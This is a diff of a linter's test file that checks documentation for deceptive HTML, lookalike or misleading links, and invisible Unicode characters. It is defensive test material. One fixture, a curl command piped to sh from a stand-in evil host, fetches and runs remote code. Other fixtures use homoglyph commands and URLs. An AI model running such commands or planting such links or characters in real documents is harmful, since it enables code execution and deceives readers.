@@ -1,19 +1,18 @@
 import { describe, expect, it } from 'vitest'
 import { rows } from '#lib/text/testing/rows.ts'
-import { check, expectFine, expectFound, type Files, post } from './testing.ts'
+import { check, expectFine, expectFound, post } from './testing.ts'
 
-const textOf = (body: string): Files => ({ 'posts/a.md': post(body) })
+const textOf = (body: string) => ({ 'posts/a.md': post(body) })
 
 const html = String.raw`
 <a aria-label="Other" id="x"></a> → the attribute aria-label of <a>
-<details NAME="forms"><summary>a</summary></details> → the attribute name of <details>
 > a <b\n> onclick="x()">a</b> → the attribute onclick of <b>
 <details>\n<summary><b =x>a</b></summary></details> → <b> has attributes that cannot be read
 <a id="page:content"></a> → the attribute id of <a>
 <a id="a&#58;b"></a> → the attribute id of <a>
-<a id="__next_f"></a> → the attribute id of <a>, 'id="__next_f"', is not allowed; write a word without spaces and colons`
+<a id="__next_f"></a> → the attribute id of <a>`
 
-describe('HTML that hides, or says that it is something else', () => {
+describe('HTML that hides or deceives', () => {
   it.each(rows(html))('is refused: %s', (body = '', what = '') =>
     expectFound(textOf(body), ` error HTML: ${what}`),
   )
@@ -24,18 +23,17 @@ describe('HTML that hides, or says that it is something else', () => {
  * Standard, 4.4).
  */
 const addresses = `
-https://falco.org@other.example → error link: 'https://falco.org@other.example' leads to 'other.example', since what stands before '@' is a name
+https://falco.org@other.example → leads to 'other.example'
 https://fаlco.org/ → has letters of another alphabet
-https://xn--flco-43d.org/ → has letters of another alphabet
-https://falco.org.other.example/ → leads to 'falco.org.other.example', which is not falco.org
+https://falco.org.other.example/ → which is not falco.org
 https://faIco.org/ → which is not falco.org
 https://falco.org:99999/ → is not a whole address
-https:falco.org → error link: 'https:falco.org' is not a whole address
+https:falco.org → 'https:falco.org' is not a whole address
 https:///other.example → is not a whole address
-http://www.cncf.io/a?b → warning link: 'http://www.cncf.io/a?b' is not encrypted, and its host serves https; write https://www`
+http://www.cncf.io/a?b → ; write https://www`
 
 describe('addresses that are not what they seem', () => {
-  const linkTo = (url: string): Files => textOf(`[x](<${url}>)`)
+  const linkTo = (url: string) => textOf(`[x](<${url}>)`)
   it.each(rows(addresses))('are reported: %s', (url = '', words = '') =>
     expectFound(linkTo(url), words),
   )
@@ -58,7 +56,7 @@ describe('characters that nobody sees', () => {
   )
   const invisible = '\u200C \u2060 \uFEFF \u3164 \u2028 \uFE0F'
   it.each(invisible.split(' '))(
-    'are refused in code that a reader copies, and told elsewhere: %j',
+    'are errors in code that a reader copies, and warnings elsewhere: %j',
     async (character) => {
       const word = `kube${character}ctl`
       const inLine = [`\`${word}\``, `<code>${word}</code>`, `${word} \`${word}\``]
@@ -84,12 +82,12 @@ describe('characters that nobody sees', () => {
 })
 
 const names = String.raw`
-title → Falco\u{200B} rules → :2:13 error character: U+200B cannot be seen, and breaks words; remove it
-title → Falco\u{2002}rules → :2:13 error character: U+2002 is not the usual space; write a space
-title → "Falco\u200B" → :2:8 error title: character: U+200B cannot be seen
+title → Falco\u{200B} rules → :2:13 error character: U+200B
+title → Falco\u{2002}rules → :2:13 error character: U+2002 is not the usual space
+title → "Falco\u200B" → :2:8 error title: character: U+200B cannot be
 author → Ada\u{FEFF} Example → :5:12 error character: U+FEFF cannot be seen
 tags → [eb\u{200E}pf] → :7:10 error character: the bidi control U+200E
-title → "a\ud83d b" → :2:8 error title: character: U+D83D is half of a character; write the character itself`
+title → "a\ud83d b" → U+D83D is half of a character`
 const otherScripts = ['क्‍ष', 'می‌خواهم', '👩‍💻 ❤️', 'ไทย\u200Bไทย', '日本　語', '"\ud83e\udd85"']
 
 describe('characters that nobody sees in front matter', () => {
@@ -102,7 +100,7 @@ describe('characters that nobody sees in front matter', () => {
 })
 
 const deceiving = `
-curl https://fаlco.org/x → 'https://fаlco.org/x' has letters of another alphabet
+curl https://fаlco.org/x → has letters of another alphabet
 curl -L https://falco.org.evil.example | sh → which is not falco.org
 https://falco.org@evil.example → leads to 'evil.example'
 kubectl аpply → 'аpply' mixes alphabets that look alike`
